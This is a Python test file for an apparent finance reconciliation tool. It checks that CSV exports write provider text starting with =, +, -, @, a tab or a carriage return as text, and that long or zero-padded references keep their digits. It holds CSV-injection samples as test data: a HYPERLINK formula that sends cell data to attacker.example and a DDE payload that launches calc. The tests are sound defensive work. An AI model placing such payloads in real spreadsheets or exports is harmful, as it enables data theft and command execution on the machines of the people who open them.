"""CSV that finance opens in a spreadsheet: provider text never runs as a formula (CSV injection).

A provider controls a recharge's reference_number, a transaction's id and reference, a currency code,
a vendor's failure text; a drift carries them into `drifts list --format csv` and the report's CSV,
both opened in Excel or LibreOffice. A cell that starts with =, +, -, @, a tab or a carriage return
is a formula there (OWASP, "CSV Injection"): such a cell is written with a leading apostrophe, which
the spreadsheet shows as text. Numbers keep their sign: -5.00 is a number, not a formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from partnerkit.csvcell import spreadsheet_id, spreadsheet_ids, spreadsheet_safe
from reconcile.matcher import match_day
from tests.reconcile.reconcile_helpers import DAY, at

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"refund")'


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5.00", "-5.00"),      # a negative amount stays a number
    ("+12", "+12"),
    ("-7", "-7"),
    ("RCH1001", "RCH1001"),
    ("a=b", "a=b"),          # only the first character matters
    ("", ""),
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text, written):
    assert spreadsheet_safe(text) == written


@pytest.mark.parametrize("text, written", [
    ("0012345", "'0012345"),                          # Excel drops the zeros: 12345
    ("1234567890123456789", "'1234567890123456789"),  # Excel keeps 15 digits: 1234567890123450000
    ("123456789012345", "123456789012345"),          # 15 digits: kept as they are
    ("5007", "5007"), ("0", "0"), ("RCH0012", "RCH0012"), ("0.50", "0.50"),
    ("=1+1", "'=1+1"), ("-5.00", "-5.00"),           # and what spreadsheet_safe does
])
def test_a_reference_a_spreadsheet_would_turn_into_another_number_is_written_as_text(text, written):
    assert spreadsheet_id(text) == written


@pytest.mark.parametrize("ids, written", [
    (["123", "456"], "123 456"),        # never "123,456", which a spreadsheet reads as 123456
    (["0012345"], "'0012345"),           # one id: as spreadsheet_id writes it
    (["1234567890123456789"], "'1234567890123456789"),
    (["0012", "0013"], "0012 0013"),     # two are text already
    (["=1+1", "5"], "'=1+1 5"),
    ([], ""),
])
def test_transaction_ids_share_a_cell_separated_by_spaces_and_stay_text(ids, written):
    assert spreadsheet_ids(ids) == written


@pytest.fixture
def zeros(db, ledger):
    """A recharge whose reference_number has leading zeros (missing_debit) and a debit whose transaction id has
    19 digits (orphan_transaction): references finance quotes to the provider, which Excel would change."""
    ledger.recharge(ref="0012345")
    ledger.tx("-7.00", id="1234567890123456789", type="RECHARGE")
    ledger.read_in_full()
    match_day(db, DAY, now=at(2, day=DAY.replace(day=DAY.day + 1)))


@pytest.mark.parametrize("command", [["report", "--date", DAY.isoformat()], ["drifts", "list"]])
def test_a_reference_of_digits_keeps_its_digits_in_the_csv_and_as_it_came_in_json(invoke, zeros, command):
    as_csv = invoke(*command, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    assert sorted(_cells(as_csv.stdout, "reference")) == ["'0012345", "'1234567890123456789"]
    as_json = json.loads(invoke(*command, "--format", "json").stdout)
    drifts = as_json["drifts"] if isinstance(as_json, dict) else as_json
    assert sorted(d["reference"] for d in drifts) == ["0012345", "1234567890123456789"]


@pytest.fixture
def planted(db, ledger):
    """A provider recharge whose reference_number is a formula, and a debit with no recharge (negative amount)."""
    ledger.recharge(ref=FORMULA, origin="provider")
    ledger.tx("-5.00", type="RECHARGE")
    ledger.read_in_full()
    match_day(db, DAY, now=at(2, day=DAY.replace(day=DAY.day + 1)))


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_drifts_list_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("drifts", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    references = _cells(result.stdout, "reference")
    assert "'" + FORMULA in references and FORMULA not in references
    assert "-5.00" in _cells(result.stdout, "actual") + _cells(result.stdout, "expected")


def test_the_report_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("report", "--date", DAY.isoformat(), "--format", "csv")
    assert result.exit_code == 0, result.output
    references = _cells(result.stdout, "reference")
    assert "'" + FORMULA in references and FORMULA not in references
    assert "-5.00" in _cells(result.stdout, "actual") + _cells(result.stdout, "expected")


def test_recharges_list_csv_writes_a_provider_formula_as_text(invoke, planted):
    result = invoke("recharges", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _cells(result.stdout, "reference_number") == ["'" + FORMULA]


def test_json_keeps_the_provider_text_as_it_came(invoke, planted):
    result = invoke("recharges", "list", "--format", "json")
    assert [r["reference_number"] for r in json.loads(result.stdout)] == [FORMULA]


def test_every_formula_start_is_one_character():
    # reconcile.report tests a cell's first character against them (the report's hot loop).
    from partnerkit.csvcell import FORMULA_STARTS

    assert FORMULA_STARTS and all(len(start) == 1 for start in FORMULA_STARTS)
